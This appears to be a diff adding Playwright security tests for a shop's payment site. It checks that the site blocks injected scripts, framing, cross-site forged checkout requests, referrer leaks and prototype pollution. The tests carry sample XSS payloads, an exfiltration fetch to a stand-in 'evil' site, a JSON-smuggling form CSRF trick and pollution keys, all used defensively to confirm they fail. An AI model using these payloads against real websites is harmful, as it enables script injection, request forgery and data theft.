@@ -1,0 +1,183 @@
+/** What a browser makes of the headers when somebody tries to get round them. */
+import type { Page } from 'playwright/test';
+import { paymentPaths } from '../../../src/domain/payment-api.ts';
+import { stack } from '../support/stack.ts';
+import { expect, test } from '../support/test.ts';
+import { routes } from './support/built-site.ts';
+import { startOtherSite } from './support/other-site.ts';
+
+declare global {
+  interface Window {
+    /** Directives of the policy that blocked something since the injection. */
+    blocked: string[];
+    /** Injected scripts that ran. */
+    ran: string[];
+  }
+}
+
+const directives = [
+  'base-uri',
+  'connect-src',
+  'frame-src',
+  'object-src',
+  'script-src',
+  'script-src-attr',
+  'script-src-elem',
+];
+
+/** Puts a script into the page in each way an injection could, and tries to send something away. */
+async function inject(page: Page, otherSite: string): Promise<void> {
+  await page.evaluate(async (address) => {
+    window.ran = [];
+    window.blocked = [];
+    addEventListener('securitypolicyviolation', (event) => {
+      window.blocked.push(event.effectiveDirective);
+    });
+    const inline = document.createElement('script');
+    inline.textContent = "window.ran.push('inline')";
+    const external = document.createElement('script');
+    external.src = `${address}/evil.js`;
+    const data = document.createElement('script');
+    data.src = "data:text/javascript,window.ran.push('data')";
+    document.body.append(inline, external, data);
+
+    const markup = document.createElement('div');
+    markup.innerHTML = `
+      <img src="data:," onerror="window.ran.push('attribute')">
+      <iframe src="${address}/frame"></iframe>
+      <object data="${address}/object"></object>
+      <base href="${address}/">`;
+    document.body.append(markup);
+
+    // eslint-disable-next-line @typescript-eslint/no-implied-eval -- what an injection would do
+    setTimeout("window.ran.push('eval')");
+    await fetch(`${address}/stolen`).catch(() => undefined);
+  }, otherSite);
+}
+
+test.describe('W1 an injected script', () => {
+  test.use({ expectedConsole: [/violates the following|Refused to|Framing|net::ERR_BLOCKED/] });
+
+  for (const route of ['/', '/buy', '/success', '/login']) {
+    test(`does not run on ${route}, and nothing can be sent elsewhere`, async ({ page }) => {
+      const other = await startOtherSite('<title>evil</title>');
+      await page.goto(route);
+      await inject(page, other.url);
+      await expect
+        .poll(() => page.evaluate(() => [...new Set(window.blocked)].sort()))
+        .toEqual(directives);
+      await other.stop();
+      expect(await page.evaluate(() => window.ran)).toEqual([]);
+      expect(other.requests.map(({ url }) => url)).toEqual([]);
+      expect(await page.evaluate(() => document.baseURI)).toBe(`${stack.site}${route}`);
+    });
+  }
+});
+
+test.describe('W2 another site', () => {
+  test.use({ expectedConsole: [/frame-ancestors|X-Frame-Options|Refused to display|404/] });
+
+  test('cannot show any of our answers in a frame', async ({ page }) => {
+    const addresses = [
+      ...routes,
+      '/success.html',
+      '/no/such/page',
+      paymentPaths.key,
+      paymentPaths.verify,
+    ];
+    const frames = addresses.map((path) => `<iframe src="${stack.site}${path}"></iframe>`);
+    const other = await startOtherSite(`<title>evil</title>${frames.join('')}`);
+    await page.goto(other.url, { waitUntil: 'load' });
+    const children = page.mainFrame().childFrames();
+    expect(children).toHaveLength(addresses.length);
+    for (const frame of children) expect(frame.url()).toMatch(/^chrome-error:/);
+    await other.stop();
+  });
+});
+
+test.describe('W4 P9 a page of another site', () => {
+  test.use({ expectedConsole: [/403|blocked by CORS|Failed to load resource/] });
+
+  test('cannot make a visitor order a pack, and reads nothing', async ({ page }) => {
+    const other = await startOtherSite('<title>evil</title>');
+    await page.goto(other.url);
+    const read = await page.evaluate(async (site) => {
+      const body = JSON.stringify({ amount: 699 });
+      const seen: string[] = [];
+      for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'application/json']) {
+        for (const mode of ['no-cors', 'cors'] as const) {
+          const headers = { 'content-type': type };
+          const request = { method: 'POST', mode, headers, body, credentials: 'include' as const };
+          const reply = await fetch(`${site}/api/checkout`, request).catch(() => undefined);
+          seen.push(reply ? `${reply.type} ${await reply.text()}` : 'refused');
+        }
+      }
+      return seen;
+    }, stack.site);
+    expect(new Set(read)).toEqual(new Set(['refused']));
+
+    await page.evaluate((site) => {
+      const form = document.createElement('form');
+      form.method = 'post';
+      form.action = `${site}/api/checkout`;
+      form.enctype = 'text/plain';
+      form.innerHTML = '<input name=\'{"amount":699,"x":"\' value=\'"}\'>';
+      document.body.append(form);
+      form.submit();
+    }, stack.site);
+    await page.waitForURL(`${stack.site}/api/checkout`);
+    expect(await page.locator('body').innerText()).toContain('forbidden_origin');
+    await other.stop();
+  });
+});
+
+test('W8 a page with a secret in its address tells the next site nothing', async ({ page }) => {
+  const other = await startOtherSite('<title>elsewhere</title>');
+  for (const [address, expected] of [
+    ['/success?reference=pay_Secret1', undefined],
+    ['/login?next=%2Fdashboard%2Fmain%3Fsecret', undefined],
+    ['/buy?payment=pending&secret', `${stack.site}/`],
+  ] as const) {
+    await page.goto(address);
+    await page.evaluate((url) => {
+      const link = document.createElement('a');
+      link.href = url;
+      document.body.append(link);
+      link.click();
+    }, other.url);
+    await page.waitForURL(`${other.url}/`);
+    const visit = other.requests.findLast(({ url }) => url === '/');
+    expect(visit?.headers.referer).toBe(expected);
+  }
+  await other.stop();
+});
+
+test('W11 the provider is asked for nothing before somebody buys', async ({ page }) => {
+  const foreign: string[] = [];
+  page.on('request', (request) => {
+    const { origin } = new URL(request.url());
+    if (origin !== stack.site && request.url().startsWith('http')) foreign.push(request.url());
+  });
+  await page.goto('/buy', { waitUntil: 'networkidle' });
+  expect(foreign).toEqual([]);
+  await page.getByRole('button', { name: 'Buy Now' }).first().click();
+  await expect(page.locator('iframe.razorpay-checkout-frame')).toBeVisible();
+  expect(foreign[0]).toBe(`${stack.sandbox}/v1/checkout.js`);
+});
+
+test('W13 names with a meaning to JavaScript do nothing in an address', async ({ page }) => {
+  const hostile = ['__proto__', 'constructor', 'toString', '__proto__[polluted]', 'hasOwnProperty'];
+  for (const name of hostile) {
+    const query = `${encodeURIComponent(name)}=1&polluted=1`;
+    for (const address of [
+      `/buy?payment=${encodeURIComponent(name)}&${query}`,
+      `/success?reference=${encodeURIComponent(name)}&${query}`,
+      `/login?next=${encodeURIComponent(name)}&${query}#${query}&type=${encodeURIComponent(name)}`,
+    ]) {
+      await page.goto(address);
+      expect(await page.evaluate(() => 'polluted' in {})).toBe(false);
+    }
+    await page.goto(`/buy?payment=${encodeURIComponent(name)}`);
+    await expect(page.locator('#payment-notice')).toBeHidden();
+  }
+});
